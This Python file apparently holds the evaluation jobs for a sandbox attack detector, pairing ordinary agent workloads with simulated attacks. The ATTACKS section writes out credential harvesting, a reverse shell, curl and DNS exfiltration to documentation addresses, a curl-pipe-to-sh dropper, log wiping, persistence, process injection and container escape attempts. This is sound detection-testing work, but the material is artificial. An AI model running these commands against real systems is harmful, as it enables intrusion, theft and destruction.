# SPDX-License-Identifier: Apache-2.0
"""The jobs of the evaluation: typical work of agents, and harmless imitations of attacks.

Each is a script that runs in a sandbox of its own; "$1" (sys.argv[1]) is the number of the run, so no two runs are alike.
The attacks are harmless outside a sandbox as well: they use files that they made, loopback, documentation addresses
(RFC 5737), and calls that the kernel refuses.
"""

SH, PY = ("/bin/bash", "-c"), ("/usr/bin/python3", "-c")

# Benign work that looks like an attack by its numbers: many renames, many processes, folders with keys. For `run
# --alarms`.
NOISY = {
    "venv": (SH, "python3 -m venv v && v/bin/python -m pip --version"),
    "pip-wheel": (SH, """
python3 - <<'E'
import base64, hashlib, zipfile
names = {f"many/m{i}.py": f"def f{i}(x):\\n    return x + {i}\\n" for i in range(1200)}
names["many/__init__.py"] = ""
names["many-1.dist-info/METADATA"] = "Metadata-Version: 2.1\\nName: many\\nVersion: 1\\n"
names["many-1.dist-info/WHEEL"] = "Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"
digest = lambda t: base64.urlsafe_b64encode(hashlib.sha256(t.encode()).digest()).rstrip(b"=").decode()
record = "".join(f"{n},sha256={digest(t)},{len(t)}\\n" for n, t in names.items())
with zipfile.ZipFile("many-1-py3-none-any.whl", "w") as z:
    for n, t in names.items(): z.writestr(n, t)
    z.writestr("many-1.dist-info/RECORD", record + "many-1.dist-info/RECORD,,\\n")
E
python3 -m pip install -q --no-index --target t ./many-1-py3-none-any.whl && ls t/many/__pycache__ | wc -l
"""),
    "compileall": (SH, "mkdir p && for i in $(seq 900); do echo \"x = $i\" > p/m$i.py; done; python3 -m compileall -q p && ls p/__pycache__ | wc -l"),
    "codemod-sed": (SH, "mkdir s && for i in $(seq 1500); do echo \"var a = $i\" > s/f$i.js; done; sed -i 's/var/let/' s/*.js; grep -l let s/*.js | wc -l"),
    "codemod-perl": (SH, "mkdir s && for i in $(seq 900); do echo \"var a = $i\" > s/f$i.js; done; perl -pi -e 's/var/let/' s/*.js; grep -l let s/*.js | wc -l"),
    "codemod-python": (PY, """
import os, pathlib, tempfile
os.mkdir("s")
for i in range(1500): pathlib.Path(f"s/f{i}.py").write_text(f"print {i}\\n")
for p in list(pathlib.Path("s").iterdir()):
    with tempfile.NamedTemporaryFile("w", dir="s", delete=False) as f: f.write(p.read_text().replace("print ", "print(") + ")")
    os.replace(f.name, p)
"""),
    "ssh-keygen": (SH, "command -v ssh-keygen >/dev/null || exit 0; mkdir -m 700 -p ~/.ssh; ssh-keygen -q -t ed25519 -N '' -f ~/.ssh/id_ed25519; "
                   "ssh-keygen -l -f ~/.ssh/id_ed25519.pub; ssh-keygen -q -t rsa -b 2048 -N '' -f id_rsa"),
    "gpg": (SH, "command -v gpg >/dev/null || exit 0; gpg --batch --passphrase '' --quick-generate-key a@b default default never; echo x > f; "
            "gpg --batch --yes -s f; gpg --verify f.gpg; gpgconf --kill all; exit 0"),
    "xargs": (SH, "seq 400 | xargs -P 110 -n 1 sh -c 'sleep 0.4; echo $0' | wc -l"),
    "git-many": (SH, "export HOME=$PWD GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@b GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@b; "
                 "git init -q r && cd r && for i in $(seq 900); do echo $i > f$i; done; git add -A && git commit -qm x && git gc -q"),
    "zip-rsync": (SH, "mkdir a && for i in $(seq 700); do echo $i > a/$i; done; command -v rsync >/dev/null && rsync -a a/ b/; "
                  "python3 -m zipfile -c z.zip a/ && python3 -m zipfile -e z.zip out; exit 0"),
    "codemod-in-place": (PY, """
import os, pathlib
os.mkdir("s")
for i in range(1500): pathlib.Path(f"s/f{i}.py").write_text(f"print {i}\\n")
for p in pathlib.Path("s").iterdir(): p.write_text(p.read_text().replace("print ", "print(") + ")")
"""),
    "git-clone-gc": (SH, "export HOME=$PWD GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@b GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@b; "
                     "git init -q r && cd r && for i in $(seq 700); do echo $i > f$i; done && git add -A && git commit -qm x && cd .. && "
                     "git clone -q r local && git clone -q file://$PWD/r packed && cd local && for i in $(seq 700); do echo x >> f$i; done && "
                     "git stash -q && git stash pop -q && git commit -qam y && git checkout -q HEAD~1 && git gc -q --prune=now && git fsck 2>&1 | wc -l"),
    "make-jobs": (SH, "mkdir m && cd m && for i in $(seq 120); do echo \"int f$i(int x) { return x + $i; }\" > f$i.c; done; "
                  "printf 'O=$(patsubst %%.c,%%.o,$(wildcard *.c))\\nall: x.a\\nx.a: $(O)\\n\\tar rcs $@ $^\\n%%.o: %%.c\\n\\tgcc -c -o $@ $<\\nclean:\\n\\trm -f *.o *.a\\n' > Makefile; "
                  "make -s -j 16 && make -s clean && make -s -j 16 && ls | wc -l"),
    "tar-again": (SH, "mkdir t && for i in $(seq 2500); do echo $i > t/$i; done; tar cf t.tar t && tar xf t.tar && tar xf t.tar --overwrite && rm -r t && tar xf t.tar && ls t | wc -l"),
    "sqlite-vacuum": (PY, """
import sqlite3
d = sqlite3.connect("x.db"); d.execute("create table t(a, b)")
for i in range(400): d.execute("insert into t values(?, hex(randomblob(500)))", (i,)); d.commit()
d.execute("delete from t where a % 2"); d.commit()
for i in range(20): d.execute("vacuum")
"""),
    "npm-pack": (SH, "command -v npm >/dev/null || exit 0; export HOME=$PWD; mkdir p q && cd p && echo '{\"name\": \"p\", \"version\": \"1.0.0\"}' > package.json && mkdir l && "
                 "for i in $(seq 1500); do echo \"module.exports = $i\" > l/$i.js; done; npm pack --silent --offline && cd ../q && npm init -y >/dev/null && "
                 "npm install --silent --offline --no-audit ../p/p-1.0.0.tgz && ls node_modules/p/l | wc -l && rm -r node_modules && npm install --silent --offline --no-audit"),
    "hard-links": (SH, "mkdir a && for i in $(seq 1500); do echo $i > a/$i; done; cp -al a b && rm -r a && cp -a b c && rm -r b c"),
    "shell-forks": (SH, "n=0; for i in $(seq 2500); do x=$(echo $i); n=$((n + x)); done; echo $n; for i in $(seq 300); do expr $i + 1 >/dev/null; done"),
    "make-check": (SH, "for i in $(seq 60); do (for j in 1 2 3 4 5 6 7 8; do (sleep 0.01; true) & done; wait); done"),
    "servers": (PY, """
import http.server, threading, urllib.request, socket
for host in ("0.0.0.0", "127.0.0.1"):
    s = http.server.ThreadingHTTPServer((host, 0), http.server.SimpleHTTPRequestHandler)
    threading.Thread(target=s.serve_forever, daemon=True).start()
    for i in range(50): urllib.request.urlopen(f"http://127.0.0.1:{s.server_port}/").read()
"""),
    "terminals": (SH, "for i in 1 2 3; do script -qc 'ls -l; stty -a; python3 -c 1' /dev/null </dev/null | wc -l; done; "
                  "python3 -c 'import pty; pty.spawn([\"/bin/sh\", \"-c\", \"echo hello\"])' </dev/null"),
    "own-libraries": (SH, "echo 'int f(void) { return 7; }' > f.c; echo 'int f(void); int main(void) { return f() != 7; }' > m.c; gcc -shared -fPIC -o libf.so f.c && "
                      "gcc -o m m.c -L. -lf && LD_LIBRARY_PATH=$PWD ./m && LD_LIBRARY_PATH=$PWD python3 -c 'import ctypes; print(ctypes.CDLL(\"libf.so\").f())' && "
                      "LD_LIBRARY_PATH=$PWD make --version >/dev/null && LD_PRELOAD=$(ls /lib/*-linux-gnu/libm.so.6) LD_LIBRARY_PATH=$PWD ./m"),
}

BENIGN = {
    "python-json": (PY, """
import json, random, sys, collections, statistics, re
r = random.Random(int(sys.argv[1])); n = r.randint(200, 900)
rows = [{"id": i, "name": "".join(r.choices("abcdef", k=6)), "v": r.random()} for i in range(n)]
open("rows.json", "w").write(json.dumps(rows))
rows = json.load(open("rows.json"))
c = collections.Counter(x["name"][0] for x in rows)
print(statistics.mean(x["v"] for x in rows), c.most_common(2), len(re.findall("a+b", json.dumps(rows))))
"""),
    "python-csv-sqlite": (PY, """
import csv, random, sqlite3, sys
r = random.Random(int(sys.argv[1]))
with open("in.csv", "w", newline="") as f:
    w = csv.writer(f); w.writerow(["k", "v"]); w.writerows([r.randint(0, 50), r.random()] for _ in range(r.randint(500, 2000)))
d = sqlite3.connect("a.db"); d.execute("create table t(k integer, v real)")
d.executemany("insert into t values(?,?)", csv.reader(list(open("in.csv"))[1:])); d.commit()
d.execute("create index i on t(k)"); d.commit()
print(d.execute("select k,avg(v) from t group by k order by 2 desc limit 3").fetchall()); d.close()
"""),
    "python-tests": (SH, """
mkdir -p pkg && cd pkg && cat > calc.py <<'E'
def add(a, b): return a + b
def div(a, b): return a / b
E
for i in $(seq 1 $((3 + $1 % 4))); do cat > test_$i.py <<E
import unittest, tempfile, os, calc
class T(unittest.TestCase):
    def test_add(self): self.assertEqual(calc.add($i, 2), $i + 2)
    def test_div(self):
        with self.assertRaises(ZeroDivisionError): calc.div(1, 0)
    def test_file(self):
        with tempfile.NamedTemporaryFile() as f: f.write(b'x'*$i); f.flush(); self.assertEqual(os.path.getsize(f.name), $i)
E
done
python3 -m unittest -q 2>&1 | tail -3
"""),
    "python-workers": (PY, """
import hashlib, multiprocessing, os, subprocess, sys, threading
def f(n): return hashlib.sha256(b"x" * n).hexdigest()[:8]
if __name__ == "__main__":
    with multiprocessing.Pool(2) as p: print(p.map(f, range(10, 30 + int(sys.argv[1]))))
    t = [threading.Thread(target=f, args=(100000,)) for _ in range(3)]
    [x.start() for x in t]; [x.join() for x in t]
    print(subprocess.run(["/bin/ls", "-la"], capture_output=True, text=True).stdout[:40])
"""),
    "python-http": (SH, """
mkdir -p site && for i in $(seq 1 $((4 + $1 % 5))); do head -c $((i * 3000)) /dev/urandom | base64 > site/$i.txt; done
python3 -m http.server 8800 --bind 127.0.0.1 -d site >/dev/null 2>&1 & P=$!
for t in 1 2 3 4 5 6 7 8 9 10; do python3 - <<'E' && break || sleep 0.2
import urllib.request
print(len(urllib.request.urlopen("http://127.0.0.1:8800/").read()))
E
done
for i in 1 2 3; do curl -s http://127.0.0.1:8800/$i.txt | wc -c; done
kill $P; wait $P 2>/dev/null; true
"""),
    "gcc-build": (SH, """
mkdir -p src && cd src && for i in $(seq 1 $((3 + $1 % 3))); do echo "#include <stdio.h>
int f$i(int x) { return x * $i + $1; }" > f$i.c; done
{ for i in f*.c; do n=${i%.c}; echo "int $n(int);"; done; echo '#include <stdio.h>
int main(void) { printf("%d\\n", f1(2) + f2(3)); return 0; }'; } > main.c
printf 'OBJS=$(patsubst %%.c,%%.o,$(wildcard *.c))\\nall: prog\\nprog: $(OBJS)\\n\\tgcc -o $@ $^\\n%%.o: %%.c\\n\\tgcc -O1 -c -o $@ $<\\nclean:\\n\\trm -f *.o prog\\n' > Makefile
make -s && ./prog && touch f1.c && make -s && make -s clean
"""),
    "git-repo": (SH, """
export HOME=$PWD GIT_CONFIG_NOSYSTEM=1 GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@b GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@b
git init -q r && cd r
for i in $(seq 1 $((4 + $1 % 4))); do echo "line $i $1" >> a.txt; echo $i > f$i; git add -A; git commit -qm "c$i"; done
git checkout -qb side HEAD~1 && echo s > side && git add side && git commit -qm side && git checkout -q master 2>/dev/null || git checkout -q -
git merge -q side -m merge; git log --oneline | wc -l; git diff HEAD~1 --stat | tail -1; git gc -q; git status --short | wc -l
"""),
    "node-script": (SH, """
command -v node >/dev/null || exit 0
cat > a.js <<'E'
const fs = require("fs"), crypto = require("crypto"), path = require("path");
const n = 200 + Number(process.argv[2]) * 17;
const rows = Array.from({length: n}, (_, i) => ({i, h: crypto.createHash("sha256").update(String(i)).digest("hex")}));
fs.writeFileSync("out.json", JSON.stringify(rows));
fs.promises.readFile("out.json").then(b => { console.log(JSON.parse(b).length); fs.mkdirSync("d", {recursive: true});
  for (const f of fs.readdirSync(".")) console.log(path.resolve(f), fs.statSync(f).size); });
setTimeout(() => console.log("done"), 20);
E
node a.js $1
"""),
    "tar-gzip": (SH, """
mkdir -p t && for i in $(seq 1 $((20 + $1 * 3))); do seq 1 $((i * 20)) > t/$i.txt; done
tar czf t.tgz t && mkdir x && tar xzf t.tgz -C x && gzip -dc t.tgz | wc -c && sha256sum t.tgz | cut -c1-8
tar cf - t | xz -1 > t.xz; xz -t t.xz; diff -r t x/t && cp -a t copy && rm -r copy x
"""),
    "text-tools": (SH, """
for i in $(seq 1 $((200 + $1 * 20))); do echo "$((i % 17)) user$((i % 5)) $((i * 7919 % 1000)) GET /p/$i"; done > log
awk '{s[$2] += $3} END {for (k in s) print k, s[k]}' log | sort -k2nr | head -3
grep -c 'GET /p/1' log; sed -n 's/user\\([0-9]\\)/u\\1/p' log | cut -d' ' -f2 | sort | uniq -c | sort -n | tail -2
tr a-z A-Z < log | wc; paste -d, <(head -3 log) <(tail -3 log) | tee o.csv | wc -l; xargs -n 4 echo < <(seq 1 40) | wc -l
"""),
    "find-grep": (SH, """
mkdir -p p/{a,b,c}/{d,e} && for d in p/*/*; do for i in 1 2 3 $((4 + $1)); do echo "needle $i" > $d/f$i.py; echo x > $d/g$i.txt; done; done
find p -name '*.py' -newer /etc/hostname 2>/dev/null | wc -l; find p -type f -size -2k | xargs grep -l needle | wc -l
grep -rn 'needle 3' p | head -3; find p -name '*.txt' -delete; ls -R p | wc -l; du -s p; stat -c %s p/a/d/f1.py; tree p 2>/dev/null | tail -1
"""),
    "perl-report": (SH, """
perl -e 'srand($ARGV[0]); for (1..800) { printf "%s,%d\\n", join("", map { chr(97 + rand 26) } 1..4), rand 1000 }' $1 > d.csv
perl -F, -lane '$h{substr $F[0], 0, 1} += $F[1]; END { print "$_ $h{$_}" for (sort { $h{$b} <=> $h{$a} } keys %h)[0..3] }' d.csv
perl -MData::Dumper -MPOSIX -e 'print Dumper({t => strftime("%Y", localtime), f => [glob "*.csv"]})' | wc -l
"""),
    "shell-loops": (SH, """
n=0; for i in $(seq 1 $((60 + $1 * 5))); do n=$((n + i)); x=$(echo $i | rev); [ $((i % 10)) = 0 ] && date +%s > s; done; echo $n
while read -r a; do echo "${a:0:3}"; done < <(seq 100 160) | sort -u | wc -l; mktemp -d; env | wc -l; type -a ls; printf '%s\\n' {a..f} | shuf --random-source=/bin/ls | head -2
"""),
    "offline-attempts": (SH, """
# An agent that does not know yet that there is no network.
for i in $(seq 1 $((1 + $1 % 3))); do curl -sS -m 2 https://pypi.example.org/simple/ 2>&1 | tail -1; done
git clone -q https://git.example.org/a/b.git 2>&1 | tail -1; python3 - <<'E'
import urllib.request
try: urllib.request.urlopen("http://192.0.2.80/", timeout=1)
except OSError as e: print(e)
E
ls /root /proc/1/cwd 2>&1 | wc -l; exit 0
"""),
    "python-async": (PY, """
import asyncio, socket, sys
async def serve(r, w): w.write((await r.readline()).upper()); await w.drain(); w.close()
async def main():
    server = await asyncio.start_server(serve, "127.0.0.1", 0); port = server.sockets[0].getsockname()[1]
    async def ask(i):
        r, w = await asyncio.open_connection("localhost", port); w.write(b"line %d\\n" % i); return await r.readline()
    print(len(await asyncio.gather(*(ask(i) for i in range(8 + int(sys.argv[1]))))))
    p = await asyncio.create_subprocess_shell("cat | wc -l", stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE)
    print((await p.communicate(b"x\\n" * 50))[0]); print(await asyncio.to_thread(socket.getfqdn))
asyncio.run(main())
"""),
    "node-children": (SH, """
command -v node >/dev/null || exit 0
cat > a.js <<'E'
const {spawn, execFile, fork} = require("child_process"), http = require("http");
if (process.send) { process.on("message", m => process.send(m + 1)); process.on("disconnect", () => process.exit(0)); } else {
  const sh = spawn("/bin/sh", ["-c", "while read l; do echo got $l; done"]);
  sh.stdout.on("data", d => console.log(d.toString().length)); for (let i = 0; i < 5 + Number(process.argv[2]); i++) sh.stdin.write(i + "\\n"); sh.stdin.end();
  execFile("/bin/ls", ["-la", "/usr"], (e, out) => console.log(out.split("\\n").length));
  const f = fork(__filename); f.on("message", m => { console.log(m); f.disconnect(); }); f.send(41);
  const s = http.createServer((q, r) => r.end("ok")).listen(0, "127.0.0.1", () => http.get({port: s.address().port, host: "127.0.0.1"},
    r => { r.resume(); r.on("end", () => s.close()); }));
}
E
node a.js $1
"""),
    "python-compute": (PY, """
import math, sys, array, itertools, fractions, functools
n = 300000 + 20000 * int(sys.argv[1]); a = array.array("d", (math.sin(i) for i in range(n)))
print(sum(a), max(a)); sieve = bytearray([1]) * n
for i in range(2, int(n ** 0.5) + 1):
    if sieve[i]: sieve[i*i::i] = bytes(len(range(i*i, n, i)))
print(sum(sieve) - 2, functools.reduce(lambda x, y: x + fractions.Fraction(1, y), range(1, 200)).numerator % 97)
"""),
    "sqlite-cli": (SH, """
command -v sqlite3 >/dev/null || exit 0
sqlite3 x.db 'create table t(a integer primary key, b text); with recursive c(n) as (select 1 union all select n+1 from c where n<'$((300 + $1 * 10))') insert into t select n, hex(n) from c; create index i on t(b); vacuum; select count(*), max(b) from t;'
sqlite3 -csv x.db 'select * from t limit 20' > o.csv; sqlite3 x.db .dump | wc -l
"""),
}

# Attacks by their numbers alone. For `run --alarms`.
MASSES = {
    "rewriting": (PY, "import os\nos.mkdir('d')\nfor i in range(600): open('d/%d' % i, 'w').write('text ' * 50)\nk = os.urandom(250)\nfor i in range(600):\n    with open('d/%d' % i, 'r+b') as f: f.write(k)\n"),
    "truncating": (PY, "import os\nos.mkdir('d')\nfor i in range(600): open('d/%d' % i, 'w').write('x')\nfor i in range(600): os.truncate('d/%d' % i, 0)\n"),
    "relinking": (PY, "import os\nos.mkdir('d')\nfor i in range(700): open('d/%d' % i, 'w').write('x')\nfor i in range(700): os.link('d/%d' % i, 'd/%d.locked' % i); os.unlink('d/%d' % i)\n"),
}

CTYPES = """
import ctypes, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
def call(n, *a): return libc.syscall(n, *[ctypes.c_long(x) if isinstance(x, int) else x for x in a])
"""

ATTACKS = {
    "recon": (SH, "id; uname -a; cat /etc/passwd /etc/group /etc/hosts /proc/version /proc/mounts /proc/cpuinfo | wc; hostname; ls -la / /root "
              "/home /etc 2>&1 | wc; ps aux 2>/dev/null | wc; cat /proc/net/tcp /proc/net/route 2>&1 | wc; env; ls /proc | wc; sudo -n -l 2>&1 | head -1; ls -l /var/run/docker.sock /run/*.sock 2>&1 | wc; cat /proc/1/cgroup /proc/self/status | wc; exit 0"),
    "credentials": (SH, "find / -xdev \\( -name 'id_rsa*' -o -name '*.pem' -o -name '.netrc' -o -name 'credentials*' -o -name '.env' \\) 2>/dev/null | head; "
                    "cat ~/.ssh/id_rsa ~/.ssh/id_ed25519 ~/.aws/credentials ~/.docker/config.json ~/.kube/config ~/.git-credentials /etc/shadow /root/.ssh/id_rsa 2>&1 | wc; grep -rsil 'password' /etc 2>/dev/null | head -3; exit 0"),
    "memfd-exec": (PY, "import os, sys\nfd = os.memfd_create('x')\nos.write(fd, open('/bin/true', 'rb').read())\nif os.fork() == 0: os.execve(fd, ['kworker'], {})\nos.wait()\n"),
    "deleted-exec": (SH, "cp /bin/sleep ./x && ./x 0.2 & sleep 0.05; rm -f x; cp /bin/true /tmp/.y && exec 9< /tmp/.y && rm /tmp/.y && /proc/self/fd/9; exit 0"),
    "fork-bomb": (PY, "import os, time\nkids = []\nfor i in range(110):\n    try: p = os.fork()\n    except OSError: break\n    if p == 0: time.sleep(0.6); os._exit(0)\n    kids.append(p)\ntime.sleep(0.4)\nfor p in kids: os.waitpid(p, 0)\n"),
    "reverse-shell": (PY, "import os, socket, subprocess\nfor p in (4444, 443, 9001):\n    s = socket.socket()\n    s.settimeout(0.3)\n    try: s.connect(('192.0.2.1', p))\n    except OSError: pass\n    s.close()\na, b = socket.socketpair()\np = os.fork()\nif p == 0:\n    for i in range(3): os.dup2(b.fileno(), i)\n    os.execv('/bin/sh', ['sh', '-i'])\na.send(b'id; pwd; exit\\n')\nos.waitpid(p, 0)\n"),
    "port-scan": (PY, "import socket\nfor host in ['127.0.0.1'] + ['198.51.100.%d' % i for i in range(1, 30)]:\n    for port in (21, 22, 23, 25, 80, 443, 445, 3306, 5432, 6379, 8080):\n        s = socket.socket(); s.settimeout(0.01)\n        try: s.connect((host, port))\n        except OSError: pass\n        s.close()\n"),
    "ransomware": (PY, "import os, hashlib\nos.makedirs('docs', exist_ok=True)\nfor i in range(600): open('docs/%d.txt' % i, 'w').write('text ' * 50)\nk = os.urandom(32)\nfor r, d, f in os.walk('docs'):\n    for n in f:\n        p = os.path.join(r, n); b = open(p, 'rb').read()\n        open(p, 'wb').write(bytes(x ^ k[i % 32] for i, x in enumerate(b))); os.rename(p, p + '.locked')\nopen('README_RESTORE.txt', 'w').write('pay')\n"),
    "wiper": (PY, "import os\nfor i in range(2500): open('w%d' % i, 'w').write('x')\nfor i in range(2500):\n    with open('w%d' % i, 'r+b') as f: f.write(b'\\0'); f.flush(); os.fsync(f.fileno())\n    os.unlink('w%d' % i)\n"),
    "mining": (PY, "import hashlib, threading, time, os\nend = time.time() + 1.5\ndef work():\n    n = 0\n    while time.time() < end: hashlib.sha256(hashlib.sha256(n.to_bytes(8, 'big')).digest()).digest(); n += 1\nts = [threading.Thread(target=work) for _ in range(4)]\nos.sched_getaffinity(0); os.nice(5)\n[t.start() for t in ts]; [t.join() for t in ts]\n"),
    "beacon": (PY, "import socket, time\nfor i in range(10):\n    s = socket.socket(); s.settimeout(0.1)\n    try: s.connect(('203.0.113.7', 443))\n    except OSError: pass\n    s.close(); time.sleep(0.25)\n"),
    "exfiltration": (SH, "mkdir -p data && for i in 1 2 3 4; do head -c 20000 /dev/urandom > data/$i; done; tar cz data | base64 -w0 > out.b64; for h in 192.0.2.10 192.0.2.11; do curl -s -m 1 -T out.b64 http://$h/up; done; "
                     "python3 -c 'import socket\nd = open(\"out.b64\").read()\nfor i in range(20):\n    try: socket.getaddrinfo(d[i * 40:i * 40 + 40] + \".t.example.net\", 80)\n    except OSError: pass\n'; exit 0"),
    "ptrace": (PY, CTYPES + "p = os.fork()\nif p == 0: time.sleep(0.5); os._exit(0)\nlibc.ptrace(16, p, 0, 0); libc.ptrace(17, p, 0, 0); libc.ptrace(16, 1, 0, 0); libc.ptrace(16, os.getppid(), 0, 0)\nos.kill(p, 9); os.waitpid(p, 0)\n"),
    "mounts": (SH, "mkdir -p m; mount -t tmpfs x m; mount --bind / m; umount /proc; unshare -rm true; unshare -n true; chroot / true; python3 -c 'import ctypes\nl = ctypes.CDLL(None)\nl.mount(b\"proc\", b\"/proc\", b\"proc\", 0, 0); l.umount2(b\"/\", 2); l.unshare(0x20000); l.syscall(428, -100, b\"/\", 1); l.syscall(430, b\"tmpfs\", 0)'; exit 0"),
    "kernel-modules": (PY, CTYPES + "call(175, 0, 0, b''); call(313, 0, b'', 0); call(176, b'x', 0); call(246, 0, 0, 0, 0); call(321, 0, 0, 0); call(298, 0, 0, -1, -1, 0); call(103, 2, 0, 0)\nfor p in ('/proc/kallsyms', '/proc/modules', '/proc/kcore', '/dev/mem', '/sys/kernel/debug', '/proc/sysrq-trigger'):\n    try: open(p, 'rb').read(100)\n    except OSError: pass\n"),
    "keyrings": (PY, CTYPES + "call(248, b'user', b'k', b'v', 1, -3); call(249, b'user', b'k', 0, -3)\nfor i in range(6): call(250, i, -3 - i % 3, 0, 0, 0)\n"),
    "proc-snooping": (PY, "import os\nfor p in sorted(os.listdir('/proc')):\n    if p.isdigit():\n        for f in ('environ', 'maps', 'mem', 'cmdline', 'root/etc/passwd', 'cwd', 'fd', 'stack', 'ns/net'):\n            q = '/proc/%s/%s' % (p, f)\n            try: os.readlink(q) if f in ('cwd', 'ns/net') else os.listdir(q) if f == 'fd' else open(q, 'rb').read(64)\n            except OSError: pass\n"),
    "symlink-race": (PY, "import os, threading, time\nopen('a', 'w').close(); end = time.time() + 0.5\ndef swap():\n    while time.time() < end:\n        try: os.symlink('/etc/shadow', 'l.new'); os.rename('l.new', 'l'); os.symlink('a', 'l.new'); os.rename('l.new', 'l')\n        except OSError: pass\nt = threading.Thread(target=swap); t.start()\nwhile time.time() < end:\n    try: open('l').read()\n    except OSError: pass\nt.join()\n"),
    "setuid-search": (SH, "find / -xdev -perm /6000 -type f 2>/dev/null | head -20; getcap -r /usr/bin 2>/dev/null | head; cp /bin/true s; chmod u+s s; ./s; su -c id </dev/null; passwd -S 2>&1; python3 -c 'import os\nfor f in (os.setuid, os.setgid):\n    try: f(0)\n    except OSError: pass'; exit 0"),
    "log-wiping": (SH, "find /var/log -type f 2>/dev/null | head; for f in /var/log/wtmp /var/log/lastlog /var/log/auth.log /var/log/syslog ~/.bash_history; do : > $f; rm -f $f; done; history -c; unset HISTFILE; echo x > l; shred -u l; touch -d '2001-01-01' .; dmesg -C; ln -sf /dev/null ~/.bash_history; exit 0"),
    "persistence": (SH, "for f in ~/.bashrc ~/.profile ~/.bash_logout ~/.config/autostart/x.desktop ~/.ssh/authorized_keys; do mkdir -p $(dirname $f); echo 'x &' >> $f; done; chmod 600 ~/.ssh/authorized_keys; for f in /etc/cron.d/x /etc/profile.d/x.sh /etc/systemd/system/x.service /etc/rc.local /etc/ld.so.preload /usr/local/bin/ls; do echo x > $f; done; crontab -l; (crontab -l; echo '* * * * * x') | crontab -; exit 0"),
    "ld-preload": (SH, "printf '#include <stdlib.h>\\n__attribute__((constructor)) static void f(void) { unsetenv(\"LD_PRELOAD\"); unsetenv(\"LD_AUDIT\"); system(\"id >/dev/null\"); }\\n' > e.c; gcc -shared -fPIC -o e.so e.c; LD_PRELOAD=$PWD/e.so ls >/dev/null; LD_PRELOAD=$PWD/e.so python3 -c 1; LD_AUDIT=$PWD/e.so ls >/dev/null; exit 0"),
    "injection": (PY, CTYPES + "b = ctypes.create_string_buffer(b'x' * 64)\np = os.fork()\nif p == 0: time.sleep(0.6); os._exit(0)\nclass V(ctypes.Structure): _fields_ = [('b', ctypes.c_void_p), ('n', ctypes.c_size_t)]\nv = V(ctypes.addressof(b), 64)\nfor n in (310, 311): libc.syscall(n, p, ctypes.byref(v), 1, ctypes.byref(v), 1, 0)\ntry:\n    f = os.open('/proc/%d/mem' % p, os.O_RDWR); os.pread(f, 8, ctypes.addressof(b)); os.pwrite(f, b'y', ctypes.addressof(b))\nexcept OSError: pass\nm = libc.mmap; m.restype = ctypes.c_void_p; a = m(0, 4096, 7, 0x22, -1, 0); libc.mprotect(ctypes.c_void_p(a), 4096, 5)\nos.kill(p, 9); os.waitpid(p, 0)\n"),
    "escape": (PY, CTYPES + "for n in ('mnt', 'pid', 'net', 'user', 'uts'):\n    try: fd = os.open('/proc/1/ns/' + n, 0); libc.setns(fd, 0)\n    except OSError: pass\nlibc.setns(os.open('/proc/self/ns/net', 0), 0)\ncall(304, -100, b'\\0' * 32, 0); call(303, -100, b'/', b'\\0' * 64, b'\\0' * 8, 0)\nfor f in ('/proc/1/root/etc/shadow', '/sys/fs/cgroup/release_agent', '/proc/sys/kernel/core_pattern', '/sys/kernel/uevent_helper'):\n    try: open(f, 'w').write('x')\n    except OSError: pass\ntry: os.chroot('/tmp')\nexcept OSError: pass\n"),
    "io-uring": (PY, CTYPES + "b = ctypes.create_string_buffer(256)\nfor i in range(4): call(425, 8, b)\ncall(426, 3, 1, 0, 0, 0, 0); call(427, 3, 0, b, 0); call(323, 0)\n"),
    "raw-sockets": (PY, "import socket\nfor f, t, p in ((17, 3, 3), (2, 3, 255), (2, 3, 1), (10, 3, 58), (16, 3, 0), (40, 1, 0), (38, 5, 0), (44, 3, 0), (29, 3, 1), (31, 3, 1), (2, 1, 132), (2, 2, 136)):\n    try: socket.socket(f, t, p).close()\n    except OSError: pass\n"),
    "signals": (PY, "import os, signal, time\nkids = []\nfor i in range(4):\n    p = os.fork()\n    if p == 0: signal.signal(10, lambda *a: None); time.sleep(1); os._exit(0)\n    kids.append(p)\ntime.sleep(0.1)\nfor i in range(400):\n    for p in kids:\n        try: os.kill(p, 10)\n        except OSError: pass\nfor q in range(1, 40):\n    try: os.kill(q, 0)\n    except OSError: pass\nfor p in kids: os.kill(p, 9); os.waitpid(p, 0)\n"),
    "dropper": (SH, "curl -s -m 1 http://192.0.2.5/x.sh | sh; wget -q -T 1 -t 1 -O- http://192.0.2.5/x.sh | sh; echo 'ZWNobyBoaQo=' | base64 -d | sh; cp /bin/busybox b 2>/dev/null || cp /bin/cat b; chmod +x b; echo x | ./b >/dev/null; python3 -c 'import base64; exec(base64.b64decode(\"aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkID4vZGV2L251bGwiKQ==\"))'; nohup ./b /dev/null >/dev/null 2>&1; exit 0"),
}
